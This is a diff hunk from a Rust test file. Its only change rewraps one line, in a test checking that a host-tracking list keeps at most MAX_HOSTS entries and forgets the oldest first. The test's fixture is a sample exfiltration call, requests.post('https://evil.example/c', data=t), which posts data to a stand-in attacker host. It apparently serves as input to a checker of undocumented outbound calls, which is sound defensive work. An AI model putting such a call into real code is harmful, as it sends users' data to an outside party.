@@ -155,7 +155,8 @@ fn what_the_prose_says_of_a_host_is_remembered() {
 #[test]
 fn at_most_sixty_four_hosts_are_remembered_the_oldest_forgotten_first() {
     let call = "requests.post('https://evil.example/c', data=t)";
-    let mut named: Vec<(String, bool)> = (0..MAX_HOSTS - 1).map(|k| (format!("h{k}.example"), true)).collect();
+    let mut named: Vec<(String, bool)> =
+        (0..MAX_HOSTS - 1).map(|k| (format!("h{k}.example"), true)).collect();
     assert!(!documented_in(NOTHING, &mut named, call, &[]));
     assert_eq!(named.len(), MAX_HOSTS);
     assert_eq!(named[0].0, "h0.example");
